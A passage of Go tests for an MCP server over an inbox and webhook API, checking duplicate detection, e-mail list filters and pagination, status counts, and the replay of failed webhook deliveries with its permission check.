	var list inboxmcp.EmailList
	structured(t, h.Call(cs, "emails_list", map[string]any{"status": "duplicate"}), &list)
	if len(list.Emails) != 1 || list.Emails[0].ID != dup.ID || list.Emails[0].DuplicateOf != first.ID || list.Emails[0].Status != inbox.EmailDuplicate {
		t.Fatalf("duplicates listed: %+v, want %s as a copy of %s", list.Emails, dup.ID, first.ID)
	}
	var got inbox.Email
	structured(t, h.Call(cs, "emails_get", map[string]any{"id": dup.ID}), &got)
	if got.DuplicateOf != first.ID || !strings.Contains(got.StatusDetail, "the same Message-ID") {
		t.Fatalf("emails_get: duplicate_of %q, detail %q", got.DuplicateOf, got.StatusDetail)
	}
}

// TestEmailsListFilters: emails_list's sender, text and date filters keep
// what they say over the whole workspace, page with their own cursors, and
// counts adds the status facets of the other filters.
func TestEmailsListFilters(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("viewer", "2025-11-25", nil)
	var all inboxmcp.EmailList
	structured(t, h.Call(cs, "emails_list", map[string]any{"limit": 100}), &all)
	if len(all.Emails) != 25 || all.StatusCounts != nil {
		t.Fatalf("all: %d e-mails, counts %v (none asked for)", len(all.Emails), all.StatusCounts)
	}
	full := map[string]inbox.Email{}
	for _, s := range all.Emails {
		var e inbox.Email
		structured(t, h.Call(cs, "emails_get", map[string]any{"id": s.ID}), &e)
		full[s.ID] = e
	}
	ids := func(args map[string]any) []string {
		t.Helper()
		args["limit"] = 3
		var out []string
		for {
			var l inboxmcp.EmailList
			structured(t, h.Call(cs, "emails_list", args), &l)
			for _, e := range l.Emails {
				out = append(out, e.ID)
			}
			if l.NextCursor == "" {
				return out
			}
			args["cursor"] = l.NextCursor
		}
	}
	want := func(keep func(e inbox.Email) bool) []string {
		var out []string
		for _, s := range all.Emails {
			if keep(full[s.ID]) {
				out = append(out, s.ID)
			}
		}
		return out
	}
	first := full[all.Emails[len(all.Emails)-1].ID]
	_, domain, _ := strings.Cut(first.From, "@")
	domain = strings.TrimSuffix(domain, ">")
	mid := first.MessageID[1 : len(first.MessageID)/2]
	day := full["eml_inv_16"].ReceivedAt.UTC() // a failed one
	for name, c := range map[string]struct {
		args map[string]any
		keep func(inbox.Email) bool
	}{
		"sender domain, any case": {map[string]any{"from": strings.ToUpper(domain)}, func(e inbox.Email) bool {
			return strings.Contains(strings.ToLower(e.From), strings.ToLower(domain))
		}},
		"search by Message-ID": {map[string]any{"search": mid}, func(e inbox.Email) bool {
			return strings.Contains(strings.ToLower(e.MessageID), strings.ToLower(mid)) || strings.Contains(strings.ToLower(e.Subject), strings.ToLower(mid)) || strings.Contains(strings.ToLower(e.From), strings.ToLower(mid))
		}},
		"search by subject, folding case beyond ASCII": {map[string]any{"search": "SERVIÇOS"}, func(e inbox.Email) bool {
			return strings.Contains(strings.ToLower(e.Subject), "serviços")
		}},
		"since a day": {map[string]any{"since": day.Format("2006-01-02")}, func(e inbox.Email) bool {
			return !e.ReceivedAt.Before(day.Truncate(24 * time.Hour))
		}},
		"until a day": {map[string]any{"until": day.Format("2006-01-02")}, func(e inbox.Email) bool {
			return e.ReceivedAt.Before(day.Truncate(24*time.Hour).AddDate(0, 0, 1))
		}},
		"one day with a status": {map[string]any{"since": day.Format("2006-01-02"), "until": day.Format("2006-01-02"), "status": "failed"}, func(e inbox.Email) bool {
			d := day.Truncate(24 * time.Hour)
			return !e.ReceivedAt.Before(d) && e.ReceivedAt.Before(d.AddDate(0, 0, 1)) && e.Status == "failed"
		}},
	} {
		got, exp := ids(c.args), want(c.keep)
		if len(exp) == 0 || len(exp) == len(all.Emails) && c.args["since"] == nil {
			t.Errorf("%s: the demo gives this filter nothing to tell apart (%d of %d)", name, len(exp), len(all.Emails))
		}
		if !slices.Equal(got, exp) {
			t.Errorf("%s: %v, want %v", name, got, exp)
		}
	}
	var counted inboxmcp.EmailList
	structured(t, h.Call(cs, "emails_list", map[string]any{"counts": true, "status": "failed", "from": domain, "limit": 1}), &counted)
	wantCounts := map[string]int{}
	for _, id := range want(func(e inbox.Email) bool { return strings.Contains(strings.ToLower(e.From), strings.ToLower(domain)) }) {
		wantCounts[full[id].Status]++
	}
	if !maps.Equal(counted.StatusCounts, wantCounts) || len(wantCounts) < 2 {
		t.Errorf("status counts %v, want %v", counted.StatusCounts, wantCounts)
	}
	var unfiltered inboxmcp.EmailList
	structured(t, h.Call(cs, "emails_list", map[string]any{"limit": 2}), &unfiltered)
	for name, args := range map[string]map[string]any{
		"bad since":                 {"since": "last week"},
		"bad until":                 {"until": "2026-13-01"},
		"until before since":        {"since": "2026-11-02", "until": "2026-11-01"},
		"a cursor of other filters": {"from": domain, "cursor": unfiltered.NextCursor},
	} {
		if r := h.Call(cs, "emails_list", args); !r.IsError || !strings.Contains(textOf(r), "invalid_arguments") {
			t.Errorf("%s: %s", name, textOf(r))
		}
	}
}

// TestWebhookRecover: webhooks_deliveries_recover sends again, oldest
// first, each failed delivery of one webhook since a time — as replays of
// the same deliveries — and then has nothing left to recover.
func TestWebhookRecover(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	cs := h.Connect("owner", "2026-07-28", yes)
	var failed DeliveryListOut
	structured(t, h.Call(cs, "webhooks_deliveries_list", map[string]any{"webhook_id": "whk_chat", "status": "failed"}), &failed)
	if len(failed.Deliveries) != 3 {
		t.Fatalf("the demo's failed chat deliveries: %d", len(failed.Deliveries))
	}
	// Since the second oldest failure: the two newest.
	second := failed.Deliveries[1]
	since := second.AttemptedAt.UTC().Format(time.RFC3339Nano)
	var listed DeliveryListOut
	structured(t, h.Call(cs, "webhooks_deliveries_list", map[string]any{"webhook_id": "whk_chat", "status": "failed", "since": since}), &listed)
	if len(listed.Deliveries) != 2 {
		t.Fatalf("failed since %s: %d deliveries, want 2", since, len(listed.Deliveries))
	}
	before := h.recv.count()
	var got inboxmcp.Recovered
	structured(t, h.Call(cs, "webhooks_deliveries_recover", map[string]any{"webhook_id": "whk_chat", "since": since}), &got)
	if got.Delivered != 2 || got.Failed != 0 || got.More || len(got.Deliveries) != 2 ||
		got.Deliveries[0].ID != second.ID || got.Deliveries[1].ID != failed.Deliveries[0].ID {
		t.Fatalf("recovered: %+v, want %s then %s delivered", got, second.ID, failed.Deliveries[0].ID)
	}
	if h.recv.count()-before != 2 {
		t.Errorf("the receiver got %d requests, want 2", h.recv.count()-before)
	}
	last := h.recv.reqs[len(h.recv.reqs)-1]
	if last.header.Get("X-Kobana-Replay-Of") != failed.Deliveries[0].ID {
		t.Errorf("a recovered delivery is not sent as a replay of itself: %v", last.header)
	}
	// The oldest failure, before the time, is left as it was.
	var left DeliveryListOut
	structured(t, h.Call(cs, "webhooks_deliveries_list", map[string]any{"webhook_id": "whk_chat", "status": "failed"}), &left)
	if len(left.Deliveries) != 1 || left.Deliveries[0].ID != failed.Deliveries[2].ID {
		t.Errorf("failed after recovery: %+v", left.Deliveries)
	}
	if r := h.Call(cs, "webhooks_deliveries_recover", map[string]any{"webhook_id": "whk_chat", "since": since}); !r.IsError || !strings.HasPrefix(textOf(r), "nothing_to_recover") {
		t.Errorf("recovering again: %s", textOf(r))
	}
	for _, bad := range []string{"", "yesterday", "2026-13-01"} {
		if r := h.Call(cs, "webhooks_deliveries_recover", map[string]any{"webhook_id": "whk_chat", "since": bad}); !r.IsError || !strings.Contains(textOf(r), "invalid_arguments") {
			t.Errorf("since %q: %s", bad, textOf(r))
		}
	}
	viewer := h.Connect("viewer", "2026-07-28", yes)
	if r := h.Call(viewer, "webhooks_deliveries_recover", map[string]any{"webhook_id": "whk_chat", "since": "2026-01-01"}); !r.IsError || !strings.Contains(textOf(r), "permission") {
		t.Errorf("a viewer's recovery: %s", textOf(r))
	}
}
